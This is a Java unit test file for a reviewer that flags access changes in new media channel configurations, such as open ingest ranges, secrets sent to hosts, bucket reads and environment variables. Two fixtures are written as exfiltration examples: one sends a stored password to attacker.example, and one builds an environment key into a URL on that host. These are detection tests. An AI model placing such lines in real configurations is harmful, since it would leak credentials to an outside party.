package dev.onair.fleet.review;

import static org.assertj.core.api.Assertions.assertThat;

import dev.onair.terraform.plan.Plan;
import dev.onair.testing.ProjectFolder;
import dev.onair.testing.SynthesizedProject;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What a channel file that was never deployed says of who gets in, by what is synthesized of it.
 */
class AccessOfNewChannelsTest {

  @TempDir private Path root;

  @Test
  void anInputThatIsOpenToAnyoneIsAccess() {
    List<AccessChange> access =
        accessOf(
            """
            class = SINGLE_PIPELINE
            inputs.main {
              type = RTMP_PUSH, allow = ["203.0.113.0/24", "0.0.0.0/0"], allow-anyone = true
              stream-name = live
            }
            """);

    assertThat(access).extracting(AccessChange::kind).containsExactly(AccessKind.INGEST_OPEN);
    assertThat(access.get(0).details())
        .containsExactly("0.0.0.0/0: 4294967296 addresses", "203.0.113.0/24: 256 addresses");
  }

  @Test
  void aSecretThatIsSentToSomeHostIsAccess() {
    List<AccessChange> access =
        accessOf(
            """
            class = SINGLE_PIPELINE
            inputs.main {
              type = URL_PULL
              sources = [{
                url = "https://attacker.example/live.m3u8", username = bob
                password-parameter = /onair/news/password
              }]
            }
            """);

    assertThat(access)
        .extracting(AccessChange::kind)
        .containsExactly(AccessKind.SECRET_NAMED, AccessKind.ROLE_GRANTED);
    assertThat(access.get(0).details())
        .containsExactly("/onair/news/password, for https://attacker.example");
    assertThat(access.get(1).details())
        .allMatch(grant -> grant.startsWith("ssm:GetParameter"))
        .hasSize(2);
  }

  @Test
  void aSecretThatIsSentUnencryptedIsToldAsThat() {
    List<AccessChange> access =
        accessOf(
            """
            class = SINGLE_PIPELINE
            cleartext-logins = [a.onair.dev]
            inputs.main {
              type = RTMP_PULL
              sources = [{
                url = "rtmp://a.onair.dev/live/x", username = bob
                password-parameter = /onair/news/password
              }]
            }
            """);

    assertThat(access)
        .filteredOn(change -> change.kind() == AccessKind.SECRET_CLEARTEXT)
        .singleElement()
        .satisfies(
            change ->
                assertThat(change.details())
                    .containsExactly("/onair/news/password, for rtmp://a.onair.dev"));
  }

  /** And what its role is denied in a bucket is no less. */
  @Test
  void aBucketThatIsReadIsAccess() {
    List<AccessChange> access =
        accessOf(
            """
            class = SINGLE_PIPELINE
            inputs.main { type = MP4_FILE, sources = ["s3ssl://loops/a.mp4"] }
            """);

    assertThat(access)
        .extracting(AccessChange::kind)
        .containsExactly(AccessKind.BUCKET_NAMED, AccessKind.ROLE_GRANTED);
    assertThat(access.get(0).details()).containsExactly("s3ssl://loops");
    assertThat(access.get(1).details())
        .singleElement()
        .asString()
        .startsWith("s3:GetObject")
        .endsWith("s3:::loops/a.mp4");
  }

  /** The hosts of an RTMP and a UDP output, and the buckets of an archive and of frame captures. */
  @Test
  void whoeverGetsTheStreamIsAccess() throws IOException {
    Path sent = Path.of("src/test/resources/sent/project");

    List<AccessChange> access =
        accessOf(
            Files.readString(sent.resolve("channels/beside.conf")),
            "profiles/beside.json",
            Files.readString(sent.resolve("profiles/beside.json")));

    assertThat(access)
        .filteredOn(change -> change.kind() == AccessKind.HOST_NAMED)
        .singleElement()
        .satisfies(change -> assertThat(change.details()).isNotEmpty());
    assertThat(access)
        .filteredOn(change -> change.kind() == AccessKind.BUCKET_NAMED)
        .singleElement()
        .satisfies(change -> assertThat(change.details()).isNotEmpty());
  }

  @Test
  void whereTheEnvironmentGoesIsAccessByTheNameOfTheVariable() {
    List<AccessChange> access =
        accessOf(
            """
            class = SINGLE_PIPELINE
            inputs.main { type = URL_PULL, sources = ["https://attacker.example/"${ONAIR_KEY}] }
            """);

    assertThat(access).extracting(AccessChange::kind).containsExactly(AccessKind.ENVIRONMENT);
    assertThat(access.get(0).details())
        .containsExactly("ONAIR_KEY: inputs.main.sources, for attacker.example");
  }

  @Test
  void anOrdinaryOneIsNot() {
    assertThat(
            accessOf(
                """
                class = SINGLE_PIPELINE
                inputs.main { type = RTP_PUSH, allow = ["203.0.113.0/24"] }
                """))
        .isEmpty();
  }

  private List<AccessChange> accessOf(String channel) {
    return accessOf(channel, "profiles/_none.conf", "");
  }

  private List<AccessChange> accessOf(String channel, String file, String text) {
    SynthesizedProject project =
        SynthesizedProject.of(
            ProjectFolder.in(root).channel("news", channel).file(file, text),
            Map.of("ONAIR_KEY", "IQoJb3JpZ2luX2VjEXAMPLE"));
    return Reviewer.review("news", Plan.ofNew(project.stack("news")), EncoderState.IDLE).access();
  }
}
